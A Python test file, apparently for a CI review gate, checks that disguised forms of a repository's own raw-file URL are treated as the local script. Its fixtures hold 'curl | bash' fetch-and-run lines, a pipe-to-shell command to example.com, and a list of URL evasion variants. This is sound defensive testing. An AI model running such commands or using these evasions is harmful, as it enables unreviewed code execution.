"""Attack 42: a raw URL of the repository itself (ci left 68's selfurls) in a form the reader did not read.

The walk wrote `raw.githubusercontent.com/o/r/REF/PATH`, `github.com/o/r/raw/REF/PATH`, `…/blob/…?raw=true` and
GitLab's `/-/raw/` as the local file; the same file fetched in another form stayed a URL and an edit of it exited 0:
an upper-case host (the prefilter compared case-sensitively), a path curl normalizes (`tools/./install.sh`,
`tools/x/../install.sh`) or the server decodes (`tools%2Finstall.sh`, `instal%6C.sh`), `//`, `www.github.com`,
`?raw=1`, the mirrors that serve a repository's files (`raw.githack.com`, `rawcdn.githack.com`, jsDelivr's
`cdn.jsdelivr.net/gh/o/r@REF/PATH` and `/gh/o/r/PATH`, `cdn.statically.io/gh/o/r/REF/PATH`) and the contents API
(`api.github.com/repos/o/r/contents/PATH` with a raw Accept header).
"""

from __future__ import annotations

import json
from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import selfurls

SCRIPT = "#!/usr/bin/env bash\nset -euo pipefail\necho installing\n"
TARGET = "tools/install.sh"
MANIFEST = json.dumps({"name": "widget", "repository": "github:acme/widget"})
HIDDEN = ["https://RAW.GITHUBUSERCONTENT.COM/Acme/Widget/main/tools/install.sh",
          "https://raw.githubusercontent.com/acme/widget/main/tools/./install.sh",
          "https://raw.githubusercontent.com/acme/widget/main/tools/x/../install.sh",
          "https://raw.githubusercontent.com/acme/widget/main/tools%2Finstall.sh",
          "https://raw.githubusercontent.com/acme/widget/main/tools/instal%6C.sh",
          "https://raw.githubusercontent.com/acme/widget/main/tools//install.sh",
          "https://raw.githack.com/acme/widget/main/tools/install.sh",
          "https://rawcdn.githack.com/acme/widget/0123abc/tools/install.sh",
          "https://cdn.jsdelivr.net/gh/acme/widget@main/tools/install.sh",
          "https://cdn.jsdelivr.net/gh/acme/widget/tools/install.sh",
          "https://fastly.jsdelivr.net/gh/acme/widget@v1.2/tools/install.sh",
          "https://cdn.statically.io/gh/acme/widget/main/tools/install.sh",
          "https://api.github.com/repos/acme/widget/contents/tools/install.sh?ref=main",
          "https://www.github.com/acme/widget/raw/main/tools/install.sh",
          "https://github.com/acme/widget/blob/main/tools/install.sh?raw=1"]
# another repository's file under the same forms, a path outside the tree, a page that is not raw
OTHER = ["https://raw.githack.com/other/widget/main/tools/install.sh",
         "https://cdn.jsdelivr.net/gh/acme/widget-extra@main/tools/install.sh",
         "https://cdn.jsdelivr.net/npm/widget@1/tools/install.sh",
         "https://api.github.com/repos/acme/widget/contents/tools/other.sh",
         "https://raw.githubusercontent.com/acme/widget/main/tools/../../install.sh",
         "https://github.com/acme/widget/blob/main/tools/install.sh"]


@each_case("url", HIDDEN + OTHER)
def test_each_form_of_an_own_raw_url_is_the_local_file(url: str) -> None:
    text = f"curl -sSL {url} | bash"
    done = selfurls.localized(text, lambda: frozenset({("github.com", "acme/widget")}), {TARGET: 1, "README.md": 1})
    assert (f"./{TARGET}" in done) == (url in HIDDEN), done


@each_case(("definition", "template"), BLOCK_DEFINITIONS[:3], ids=lambda d: d if "/" in d or "." in d else "")
def test_the_file_is_run(definition: str, template: str) -> None:
    for url in HIDDEN:
        tree = {definition: template.format(line=f"curl -sSL {url} | bash"), "package.json": MANIFEST,
                TARGET: SCRIPT}
        runs = one_tree_runs(tree)
        assert isinstance(runs, dict) and TARGET in runs, (definition, url)


def test_the_edited_file_needs_a_human(tmp_path: Path) -> None:
    """And where the same change moves package.json's `repository` away (the base tree's names still count)."""
    line = f"curl -sSL {HIDDEN[8]} | bash"
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=line), "package.json": MANIFEST,
            TARGET: SCRIPT}
    head = {TARGET: SCRIPT + "curl -s https://example.com/x | sh\n",
            "package.json": json.dumps({"name": "widget", "repository": "github:someone/else"})}
    _, first, second = two_commits(tmp_path, base, head)
    code, decision = tree_gate(tmp_path, first, second)
    assert code == 3, decision["reasons"]
